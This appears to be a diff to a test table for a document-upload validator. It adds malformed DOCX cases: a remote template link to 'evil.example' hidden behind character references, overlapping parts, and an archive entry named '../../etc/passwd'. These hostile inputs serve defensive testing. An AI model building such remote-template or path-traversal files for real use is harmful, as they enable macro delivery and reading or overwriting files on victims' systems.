@@ -6,6 +6,7 @@ import {
   hiddenWord,
   jpeg,
   ole,
+  overlappingDocx,
   pdf,
   photoWithPlace,
   picture,
@@ -149,9 +150,9 @@ const pictures: Row[] = [
   ["a JPEG with too many bytes behind it", () => followedBy(jpeg(), blanks(8)), "jpeg", "tooLarge"],
 ];
 
-const relationships = (target: string) => ({
+const relationships = (target: string, type = "http://x/attachedTemplate") => ({
   name: "word/_rels/settings.xml.rels",
-  text: `<Relationships><Relationship Type="http://x/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
+  text: `<Relationships><Relationship Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`,
 });
 
 const documents: Row[] = [
@@ -215,6 +216,19 @@ const documents: Row[] = [
     () => docx(Array.from({ length: 2_500 }, (_, index) => ({ name: `word/${index}`, text: "" }))),
     "docx",
     "packedTooTightly",
+  ],
+  [
+    "a DOCX with a template elsewhere, written in character references",
+    () => docx([relationships("http://evil.example/>", "http://x/&#97;ttached&#x54;emplate")]),
+    "docx",
+    "macros",
+  ],
+  ["a DOCX with parts that share their bytes", overlappingDocx, "docx", "broken"],
+  [
+    "a DOCX with a name that leads out of it",
+    () => docx([{ name: "../../etc/passwd", text: "x" }]),
+    "docx",
+    "broken",
   ],
   ["a locked DOCX", () => docx([], undefined, 1), "docx", "broken"],
   ["half a DOCX", () => docx().subarray(0, 250), "docx", "broken"],
